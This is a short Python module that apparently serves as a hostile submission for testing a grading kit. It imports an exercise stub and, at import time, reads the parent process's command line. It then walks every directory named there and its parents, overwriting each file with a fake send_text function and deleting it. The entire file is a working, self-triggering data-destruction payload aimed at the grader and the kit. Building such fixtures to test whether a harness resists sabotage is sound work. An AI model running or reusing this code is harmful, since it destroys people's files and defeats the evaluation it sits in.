"""Stubs, and at import, deletes or rewrites every file it can find of the kit and of itself."""

import os

from stub import *  # noqa: F401,F403 - the unmodified stub of exercise-1

EXPECT = "zero"

def _attack():
    with open(f"/proc/{os.getppid()}/cmdline", "rb") as f:
        args = f.read().decode().split("\0")
    places = {os.path.dirname(os.path.abspath(__file__))}
    for arg in args:
        if arg.startswith("/"):
            places.add(arg if os.path.isdir(arg) else os.path.dirname(arg))
            places.add(os.path.dirname(os.path.dirname(arg)))
    for place in places:
        for folder, _, names in os.walk(place):
            for name in names:
                path = os.path.join(folder, name)
                try:
                    with open(path, "w") as f:
                        f.write("def send_text(sock, text): return 0\n")
                except OSError:
                    pass
                try:
                    os.remove(path)
                except OSError:
                    pass


_attack()
